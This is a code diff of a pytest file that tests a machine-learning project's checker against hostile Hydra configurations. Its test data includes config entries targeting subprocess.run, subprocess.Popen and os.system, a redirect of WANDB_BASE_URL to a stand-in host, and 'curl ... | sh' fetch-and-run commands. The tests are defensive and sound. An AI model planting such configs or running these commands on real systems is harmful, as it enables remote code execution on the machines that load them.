@@ -13,6 +13,7 @@ from pathlib import Path
 
 import pytest
 import torch
+from omegaconf import OmegaConf
 
 import pesloss
 from pesloss import checkpoint
@@ -21,6 +22,7 @@ from pesloss.checkpoint import BEST, LAST, CheckpointError
 from pesloss.cli import resumed_arguments
 from pesloss.description import describe
 from pesloss.recipes import PROJECTS, from_config
+from pesloss.safety.hydra_targets import SHELL, check
 from pesloss.safety.overrides import objection
 from pesloss.show import show
 from tests.safety.attacks import CONTENTS, HARMLESS_OVERRIDES, HIDDEN, MARK, OVERRIDES, TARGETS, Runs
@@ -366,7 +368,6 @@ CONFIGS = {
     "logging": "hydra: {job_logging: {handlers: {x: {'()': subprocess.run, args: true}}}}",
     "logging class": "hydra: {job_logging: {handlers: {x: {class: subprocess.Popen}}}}",
     "environment": "hydra: {job: {env_set: {WANDB_BASE_URL: 'http://stranger'}}}",
-    "script": "hydra: {launcher: {setup: ['curl http://stranger | sh']}}",
     "another part": "hydra: {job_logging: {x: [{_target_: os.system}]}}",
 }
 
@@ -376,8 +377,6 @@ def test_hydra_acts_on_no_strangers_config(name, tmp_path):
     """Its own list of forbidden names lets many through; ours is one of allowed names."""
     from hydra import compose, initialize_config_dir
 
-    from pesloss.safety.hydra_targets import check
-
     (tmp_path / "experiment").mkdir()
     (tmp_path / "experiment" / "evil.yaml").write_text(f"# @package _global_\n{CONFIGS[name]}\n")
     (tmp_path / "main.yaml").write_text("defaults: [experiment: null]\n")
@@ -385,6 +384,15 @@ def test_hydra_acts_on_no_strangers_config(name, tmp_path):
         config = compose("main", ["experiment=evil"], return_hydra_config=True)
     with pytest.raises(BuildError, match=r"^hydra\."):
         check(config)
+
+
+@pytest.mark.parametrize("name", SHELL)
+def test_commands_for_a_queue_are_typed(name):
+    """The launcher for SLURM writes them into a shell script."""
+    config = OmegaConf.create({"hydra": {"launcher": {"_target_": "hydra_plugins.x", name: "curl x | sh"}}})
+    with pytest.raises(BuildError, match=rf"^hydra\.launcher\.{name}: a config file does not run commands"):
+        check(config)
+    check(config, [f"hydra.launcher.{name}='curl x | sh'"])
 
 
 def test_the_app_checks_before_hydra_acts(tmp_path):
